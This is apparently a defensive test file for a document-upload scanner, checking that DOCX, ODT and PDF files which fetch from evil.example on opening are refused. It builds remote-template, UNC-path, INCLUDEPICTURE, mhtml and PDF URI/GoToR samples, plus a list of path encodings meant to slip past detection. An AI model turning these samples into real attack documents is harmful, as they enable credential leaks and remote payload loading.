"""A file that fetches something when it is opened is refused. A file with ordinary links is not."""

import pytest
from pypdf.generic import TextStringObject

from tests import hostile_files as hostile
from tests.files import annotated, docx, odt, pdf, relationship
from tests.hostile_files import pdf_action
from tests.uploads.test_documents import examine_bytes, field, refusal
from uploads.documents.filenames import is_remote


@pytest.mark.parametrize(
    "make",
    [
        lambda: docx(**{"word___rels__settings_xml.rels": relationship("http://evil.example/a.dotm")}),
        lambda: docx(**{"word___rels__settings_xml.rels": relationship("\\\\evil.example\\a.dotm")}),
        lambda: docx(**{"word___rels__settings_xml.RELS": relationship("file://evil.example/a.dotm")}),
        lambda: docx(**{"word___rels__document_xml.rels": relationship("mhtml:http://evil.example!x", "oleObject")}),
        lambda: docx(**{"word___rels__document_xml.rels": relationship("https://evil.example/a.png", "image")}),
        lambda: docx(
            **{
                "word___rels__a_xml.rels": relationship("http://evil.example", "image").replace(
                    "TargetMode", 'xmlns:x="x" x:TargetMode="Internal" TargetMode'
                )
            }
        ),
        lambda: docx(text=field(' INCLUDEPICTURE "http://evil.example/a.png" \\* MERGEFORMAT ')),
        lambda: docx(text=field(' LINK Excel.Sheet.12 "\\\\\\\\evil.example\\\\a.xlsx" ')),
        lambda: odt(text='<draw:image xmlns:draw="d" xlink:href="http://evil.example/a.png"/>'),
        lambda: odt(text='<draw:fill-image xmlns:draw="d" href="Pictures/a" xlink:href="//evil.example/a.png"/>'),
        lambda: odt(meta='<meta:template xlink:href="https://evil.example/a.ott"/>'),
        lambda: odt(meta='<meta:auto-reload xlink:href="https://evil.example/"/>'),
        lambda: hostile.pdf_opening(pdf_action("URI", URI=TextStringObject("http://evil.example/"))),
        lambda: pdf(change=annotated(A=pdf_action("GoToR", F=TextStringObject("\\\\evil.example\\a.pdf")))),
    ],
)
def test_what_fetches_from_elsewhere_is_refused(make):
    assert refusal(make()) == "calls_out"


@pytest.mark.parametrize(
    ("target", "remote"),
    [
        ("http://evil.example/", True),
        ("HTTPS://evil.example/", True),
        ("\\\\evil.example\\share", True),
        ("//evil.example/share", True),
        ("\\/evil.example/share", True),
        ("%5C%5Cevil.example%5Cshare", True),
        ("file://evil.example/share", True),
        ("file:////evil.example/share", True),
        ("file:\\\\evil.example\\share", True),
        ("file:///\\\\evil.example\\share", True),
        (" http://evil.example/", True),
        ("mhtml:http://evil.example", True),
        ("//[::1", True),
        ("file:///C:/Users/mara/Normal.dotm", False),
        ("C:\\Users\\mara\\Normal.dotm", False),
        ("/home/mara/Normal.ott", False),
        ("Pictures/1.png", False),
        ("../Normal.dotm", False),
        ("", False),
    ],
)
def test_every_way_to_another_machine_is_known(target, remote):
    assert is_remote(target) is remote


def test_ordinary_links_are_no_harm():
    examine_bytes(pdf(change=annotated(A=pdf_action("URI", URI=TextStringObject("https://lakes.example/")))))
    examine_bytes(docx(**{"word___rels__document_xml.rels": relationship("https://lakes.example/", "hyperlink")}))
    examine_bytes(docx(text=field(' HYPERLINK "https://lakes.example/" ')))
    examine_bytes(docx(text=field(" PAGE \\* MERGEFORMAT ")))
    examine_bytes(odt(text='<text:p><text:a xlink:href="https://lakes.example/">x</text:a></text:p>'))
